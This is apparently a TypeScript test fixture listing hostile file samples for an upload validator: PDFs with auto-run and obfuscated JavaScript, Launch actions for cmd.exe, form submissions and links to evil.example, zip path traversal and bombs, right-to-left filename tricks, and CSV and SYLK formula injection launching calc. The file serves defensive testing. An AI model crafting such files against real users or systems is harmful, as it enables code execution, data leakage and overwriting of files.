import { deflateSync, gzipSync } from 'node:zlib'
import { jpeg, pdf, png, windowsProgram } from '#tests/support/file-bytes.ts'
import { linkedDocuments } from './hostile-links.ts'
import { newDocuments } from './hostile-office.ts'
import { oldDocuments } from './hostile-old-office.ts'
import { openDocuments } from './hostile-open-documents.ts'
import type { Hostile } from './hostile-parts.ts'
import { disguisedPdfs } from './hostile-pdf.ts'
import { officeFile } from './office-files.ts'
import { packedPdf, pdfOf, pdfStream, pdfWithPage, updated } from './pdf-files.ts'
import { type Part, packZip } from './zip-files.ts'

const script = '<</S/JavaScript/JS(app.alert(1))>>'
const archive = packZip([{ name: 'run.js', data: 'alert(1)' }])
const page = '<html><script>alert(1)</script></html>'

const pdfs: Hostile[] = [
  [
    'PDF with a script that runs when it is opened',
    () => pdfOf('/OpenAction 6 0 R', [script]),
    'file_scripts',
  ],
  [
    'PDF with a script in disguise',
    () => pdfOf('/OpenAction 6 0 R', ['<</S/J#61vaScr#69pt/J#53(app.alert(1))>>']),
    'file_scripts',
  ],
  [
    'PDF with a script whose whole name is in disguise',
    () => pdfOf('', ['<</S/#4a#61#76#61#53#63#72#69#70#74>>']),
    'file_scripts',
  ],
  [
    'PDF with a script in a list of names',
    () => pdfOf('/Names<</JavaScript<</Names[(a) 6 0 R]>>>>', [script]),
    'file_scripts',
  ],
  ['PDF with a script in an object stream', () => packedPdf('', [script]), 'file_scripts'],
  [
    'PDF with a script in disguise in an object stream',
    () => packedPdf('', ['<</S/JavaScr#69pt/#4aS(1)>>']),
    'file_scripts',
  ],
  [
    'PDF with a script in a plain object stream',
    () => packedPdf('', ['<</S/Java#53cript>>'], { plain: true }),
    'file_scripts',
  ],
  [
    'PDF with a predictor in an object stream',
    () => packedPdf('', [], { dictionary: '/DecodeParms<</Predictor 12/Columns 4>>' }),
    'file_deceptive',
  ],
  [
    'PDF with an object stream that is packed twice',
    () =>
      packedPdf('', [], { dictionary: '/Filter[/ASCIIHexDecode/FlateDecode]', packed: Buffer.from('789c>') }),
    'file_deceptive',
  ],
  [
    'PDF with an object stream in an old compression',
    () => packedPdf('', [], { dictionary: '/Filter/LZWDecode', packed: Buffer.from('x') }),
    'file_deceptive',
  ],
  [
    'PDF with an object stream that bursts',
    () =>
      packedPdf('', [], {
        dictionary: '/Filter/FlateDecode',
        packed: deflateSync(Buffer.alloc(9_000_000, ' ')),
      }),
    'file_deceptive',
  ],
  [
    'PDF with objects in a stream',
    () => pdfOf('', [pdfStream('', `7 0 obj ${script} endobj`, false)]),
    'file_scripts',
  ],
  [
    'PDF with objects behind a false stream',
    () => pdfOf('', ['% stream\n9 0 obj\n<</XFA 3 0 R>>\n% endstream']),
    'file_scripts',
  ],
  ['PDF that starts a program', () => pdfOf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'file_scripts'],
  [
    'PDF whose link starts a program',
    () => pdfWithPage('/Annots[<</Subtype/Link/A<</S/Launch/Win<</F(cmd.exe)>>>>>>]'),
    'file_scripts',
  ],
  [
    'PDF that opens a page of the web',
    () => pdfOf('/OpenAction<</S/URI/URI(https://evil.example)>>'),
    'file_scripts',
  ],
  [
    'PDF that opens a page of the web by a reference',
    () => pdfOf('/OpenAction 6 0 R', ['<</Type/Action/S/URI/URI(https://evil.example)>>']),
    'file_scripts',
  ],
  [
    'PDF that does so from an object stream',
    () => packedPdf('/OpenAction 6 0 R', ['<</S/URI/URI(https://evil.example)>>']),
    'file_scripts',
  ],
  [
    'PDF that opens another file',
    () => pdfOf('/OpenAction<</S/GoToR/F(\\\\evil.example\\a.pdf)/D[0/Fit]>>'),
    'file_scripts',
  ],
  [
    'PDF that goes to a page and then to the web',
    () => pdfOf('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>', ['<</S/URI/URI(https://evil.example)>>']),
    'file_scripts',
  ],
  [
    'PDF whose page acts when it is entered',
    () => pdfWithPage('/AA<</O 6 0 R>>', ['<</S/URI/URI(https://evil.example)>>']),
    'file_scripts',
  ],
  [
    'PDF whose link is a script',
    () => pdfWithPage('/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]'),
    'file_scripts',
  ],
  [
    'PDF with a form that sends',
    () =>
      pdfOf('/AcroForm<</Fields[6 0 R]>>', ['<</FT/Btn/T(a)/A<</S/SubmitForm/F(https://evil.example)>>>>']),
    'file_scripts',
  ],
  ['PDF with a form that loads values', () => pdfOf('', ['<</S/ImportData/F(a.fdf)>>']), 'file_scripts'],
  [
    'PDF with a form in XFA',
    () => pdfOf('/AcroForm<</XFA 6 0 R/Fields[]>>', [pdfStream('', '<xdp:xdp/>')]),
    'file_scripts',
  ],
  [
    'PDF with an attachment',
    () =>
      pdfOf('/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>', [
        '<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>',
        pdfStream('/Type/EmbeddedFile', windowsProgram),
      ]),
    'file_embedded',
  ],
  [
    'PDF with an attachment on its page',
    () => pdfWithPage('/Annots[<</Subtype/FileAttachment/FS<</EF<</F 6 0 R>>>>>>]'),
    'file_embedded',
  ],
  [
    'PDF with an attachment in an object stream',
    () => packedPdf('/Names<</EmbeddedFil#65s 9 0 R>>'),
    'file_embedded',
  ],
  ['PDF with a film', () => pdfWithPage('/Annots[<</Subtype/RichMedia>>]'), 'file_embedded'],
  [
    'PDF that plays a film',
    () => pdfWithPage('/Annots[<</Subtype/Screen/A<</S/Rendition>>>>]'),
    'file_embedded',
  ],
  ['PDF that opens a PDF inside it', () => pdfOf('', ['<</S/GoToE/T<</R/C/N(a.pdf)>>>>']), 'file_embedded'],
  ['PDF with a password', () => pdfOf('', [], { trailer: '/Encrypt 6 0 R' }), 'file_encrypted'],
  ['PDF with a page behind its end', () => pdfOf('', [], { behind: page }), 'file_deceptive'],
  ['PDF with a page between two ends', () => pdfOf('', [], { behind: `${page}\n%%EOF\n` }), 'file_deceptive'],
  ['PDF with an archive behind its end', () => pdfOf('', [], { behind: archive }), 'file_deceptive'],
  [
    'PDF with an archive whose comment is its end',
    () => Buffer.concat([pdf, packZip([{ name: 'a', data: 'x' }], { comment: '%%EOF' })]),
    'file_deceptive',
  ],
  ['PDF with a program behind its end', () => pdfOf('', [], { behind: windowsProgram }), 'file_deceptive'],
  ['PDF without an end', () => pdfOf().subarray(0, 300), 'file_deceptive'],
  [
    'PDF to which a script was appended',
    () => updated(pdfOf(), `1 0 obj<</Type/Catalog/OpenAction ${script}>>endobj`),
    'file_scripts',
  ],
  [
    'PDF that begins a little later',
    () =>
      Buffer.concat([Buffer.from('hei\n'), Buffer.from('%PDF-1.4\n1 0 obj<</S/JavaScript>>endobj\n%%EOF')]),
    'file_deceptive',
  ],
]

const text = (name: string, data = 'hei'): Part => ({ name, data })
const named = (name: string) => () => packZip([text(name)])
const stored = (name: string, data: string): Part => ({ name, data, stored: true })

/** Archive whose entries share their bytes, so that it unpacks to a hundred times its size. */
function overlapping(): Buffer {
  const data = Buffer.alloc(200_000, 'a')
  const first: Part = { name: 'a.txt', data }
  return packZip([
    first,
    ...Array.from(
      { length: 60 },
      (_, index): Part => ({ name: `${index}.txt`, data: '', listed: { offset: 0 } }),
    ),
  ])
}

/** Archive in which the data of one entry has another entry. */
function quoted(): Buffer {
  const inner = packZip([text('b.txt', 'inner')])
  const outer: Part = { name: 'a.txt', data: inner.subarray(0, inner.length - 80), stored: true }
  return packZip([outer, { name: 'b.txt', data: 'inner', listed: { offset: 35 } }])
}

const zips: Hostile[] = [
  ['ZIP whose entries overlap', overlapping, 'file_deceptive'],
  ['ZIP with an entry within another', quoted, 'file_deceptive'],
  [
    'ZIP with another name in front of an entry',
    () => packZip([{ ...text('a.txt'), local: { name: 'a.exe' } }]),
    'file_deceptive',
  ],
  [
    'ZIP with another compression in front of an entry',
    () => packZip([{ ...text('a.txt'), local: { method: 0 } }]),
    'file_deceptive',
  ],
  [
    'ZIP with another size in front of an entry',
    () => packZip([{ ...text('a.txt'), local: { bytes: 7 } }]),
    'file_deceptive',
  ],
  [
    'ZIP with another checksum in front of an entry',
    () => packZip([{ ...text('a.txt'), local: { crc: 1 } }]),
    'file_deceptive',
  ],
  [
    'ZIP with an entry that its directory does not list',
    () => packZip([text('a.txt'), { name: 'b.exe', data: windowsProgram, unlisted: true }, text('c.txt')]),
    'file_deceptive',
  ],
  [
    'ZIP with an unlisted entry at its end',
    () => packZip([text('a.txt'), { name: 'b.exe', data: windowsProgram, unlisted: true }]),
    'file_deceptive',
  ],
  [
    'ZIP with bytes between entries',
    () => packZip([text('a.txt'), { ...text('b.txt'), before: Buffer.alloc(100, 'x') }]),
    'file_deceptive',
  ],
  [
    'ZIP with bytes in front of its directory',
    () => packZip([text('a.txt')], { beforeDirectory: windowsProgram }),
    'file_deceptive',
  ],
  [
    'ZIP with more entries than it counts',
    () => packZip([text('a.txt'), text('b.txt')], { count: 1 }),
    'file_deceptive',
  ],
  [
    'ZIP with bytes behind its end',
    () => packZip([text('a.txt')], { behind: Buffer.from('<html></html>') }),
    'file_deceptive',
  ],
  ['ZIP with a page as its comment', () => packZip([text('a.txt')], { comment: page }), 'file_deceptive'],
  [
    'ZIP with another end in its comment',
    () => packZip([text('a.txt')], { comment: `x${packZip([]).toString('latin1')}` }),
    'file_deceptive',
  ],
  ['ZIP whose two ends disagree', () => packZip([text('a.txt')], { zip64: { count: 2 } }), 'file_deceptive'],
  ['ZIP with one name twice', () => packZip([text('a.txt', 'one'), text('a.txt', 'two')]), 'file_deceptive'],
  [
    'ZIP with a file and a folder of one name',
    () => packZip([text('a'), { name: 'a/', data: '' }]),
    'file_deceptive',
  ],
  ['ZIP that climbs out', named('../../evil.txt'), 'file_deceptive'],
  ['ZIP that climbs out the Windows way', named('..\\..\\evil.txt'), 'file_deceptive'],
  ['ZIP with an absolute path', named('/etc/passwd'), 'file_deceptive'],
  ['ZIP with a drive', named('C:/evil.txt'), 'file_deceptive'],
  ['ZIP with a name that turns around', named('tulos\u202etxt.exe'), 'file_deceptive'],
  ['ZIP with a name with an isolate', named('tulos\u2067txt.exe'), 'file_deceptive'],
  ['ZIP with a control character in a name', named('tulos\u0007.txt'), 'file_deceptive'],
  ['ZIP with a name that ends early', named('tulos.txt\0.exe'), 'file_deceptive'],
  ['ZIP with a device as a name', named('CON'), 'file_deceptive'],
  ['ZIP with a device and an ending', named('kuvat/aux.txt'), 'file_deceptive'],
  ['ZIP with a device as a folder', named('COM1/a.txt'), 'file_deceptive'],
  ['ZIP with a link', () => packZip([{ name: 'a', data: '/etc/passwd', symlink: true }]), 'file_deceptive'],
  [
    'ZIP that lies about a size',
    () => packZip([{ name: 'a.txt', data: 'x'.repeat(5000), local: { bytes: 10 }, listed: { bytes: 10 } }]),
    'file_deceptive',
  ],
  ['ZIP cut off', () => packZip([text('a.txt', 'hei '.repeat(99))]).subarray(0, 40), 'file_deceptive'],
  ['ZIP without files', () => packZip([]), 'file_deceptive'],
  ['ZIP with a password', () => packZip([{ ...text('a.txt'), encrypted: true }]), 'file_encrypted'],
  ['ZIP in a ZIP', () => packZip([{ name: 'inner.zip', data: archive }]), 'file_archive_nested'],
  [
    'ZIP in a ZIP under another name',
    () => packZip([{ name: 'kuva.png', data: archive }]),
    'file_archive_nested',
  ],
  [
    'ZIP with another kind of archive',
    () => packZip([{ name: 'a.gz', data: gzipSync(Buffer.alloc(1_000_000)) }]),
    'file_archive_nested',
  ],
  [
    'ZIP that bursts',
    () => packZip([{ name: 'a.txt', data: Buffer.alloc(20 * 1024 * 1024, 'a') }]),
    'file_archive_too_large',
  ],
  [
    'ZIP of too many files',
    () => packZip(Array.from({ length: 2001 }, (_, index) => stored(`${index}.txt`, 'x'))),
    'file_archive_too_large',
  ],
  ['ZIP with a program', () => packZip([{ name: 'a.png', data: windowsProgram }]), 'file_unsupported'],
  ['ZIP with a page', () => packZip([text('a.txt', page)]), 'file_unsupported'],
  ['ZIP with a batch file', () => packZip([text('lue.bat', '@echo off\r\nstart calc\r\n')]), 'file_scripts'],
  ['ZIP with a script', () => packZip([text('lue minut.txt.js', 'alert(1)')]), 'file_scripts'],
  [
    'ZIP with a link of the web',
    () => packZip([text('tulos.url', '[InternetShortcut]\r\nURL=https://evil.example\r\n')]),
    'file_scripts',
  ],
  [
    'ZIP with a document with macros',
    () =>
      packZip([
        { name: 'a.docx', data: officeFile('docx', { parts: [{ name: 'word/vbaProject.bin', data: 'x' }] }) },
      ]),
    'file_macros',
  ],
  [
    'ZIP with a PDF with a script',
    () => packZip([{ name: 'a.pdf', data: pdfOf('', [script]) }]),
    'file_scripts',
  ],
]

const others: Hostile[] = [
  ['page', () => Buffer.from(page), 'file_unsupported'],
  [
    'drawing',
    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'file_unsupported',
  ],
  ['program', () => windowsProgram, 'file_unsupported'],
  ['RTF', () => Buffer.from('{\\rtf1{\\object\\objemb}}'), 'file_unsupported'],
  ['picture with a page', () => Buffer.concat([png(), Buffer.from(page)]), 'file_deceptive'],
  ['picture with an archive', () => Buffer.concat([jpeg, archive]), 'file_deceptive'],
  ['picture that is a PDF too', () => Buffer.concat([png(), pdfOf('', [script])]), 'file_deceptive'],
  ['CSV that starts a program', () => Buffer.from("näyte;määrä\n=cmd|'/C calc'!A0;1\n"), 'file_linked'],
  [
    'CSV that starts a program in a sum',
    () => Buffer.from("näyte;määrä\n@SUM(1+1)*cmd|' /C calc'!A0;1\n"),
    'file_linked',
  ],
  [
    'sheet of the old exchange format with macros',
    () => Buffer.from('ID;P\nO;E\nNN;NAuto_open;ER101C1;KOut Flank;F\nC;X1;Y101;EEXEC("calc")\nE\n'),
    'file_macros',
  ],
]

export const hostileFiles: readonly Hostile[] = [
  ...oldDocuments,
  ...newDocuments,
  ...linkedDocuments,
  ...openDocuments,
  ...pdfs,
  ...disguisedPdfs,
  ...zips,
  ...others,
]
